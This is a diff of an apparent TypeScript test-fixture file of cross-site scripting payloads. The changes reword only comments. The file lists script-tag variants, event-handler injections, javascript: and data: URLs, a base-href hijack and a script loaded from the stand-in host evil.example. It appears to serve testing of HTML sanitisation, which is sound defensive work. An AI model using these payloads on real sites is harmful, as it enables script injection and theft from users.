@@ -1,9 +1,8 @@
-// Texts that try to run as code, which sets window.executed, opens a dialog or requests evil.example.
+// Texts that, if run as code, set window.executed, open a dialog or request evil.example.
 
 const RUN = "window.executed=1";
 const LOAD = "https://evil.example/x";
 
-/** The first word identifies each text on the pages. */
 export const SCRIPT_TEXTS: string[] = [
   ...[`<script>${RUN}</script>`, `<ScRiPt>${RUN}</sCrIpT >`, `</script><script>${RUN}</script>`],
   ...[`<script src=${LOAD}.js></script>`, `<script type=module>${RUN}</script>`],
@@ -34,10 +33,10 @@ export const SCRIPT_TEXTS: string[] = [
   ...[`＜script＞${RUN}＜/script＞`, `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`],
 ];
 
-/** Attacks on scripts instead of HTML, for texts of several lines only. */
+/** Attacks on scripts instead of HTML, for multi-line texts only. */
 export const LINE_SEPARATORS = `\u2028${RUN}\u2029${RUN}\n${RUN}//`;
 
-/** Short enough for a time, a type or a phone number. */
+/** Texts short enough for a time, a type or a phone number. */
 export const SHORT_TEXTS = [
   "<svg onload=window.executed=1>",
   '"><svg onload=window.executed=1>',
@@ -46,7 +45,7 @@ export const SHORT_TEXTS = [
   "<base href=//evil.example>",
 ];
 
-/** Addresses other than uploaded images. */
+/** Image addresses other than those of uploaded images. */
 export const SCRIPT_ADDRESSES = [
   ...["javascript:window.executed=1", "JaVaScRiPt:window.executed=1", "java\nscript:window.executed=1"],
   ...["data:text/html,<script>window.executed=1</script>"],
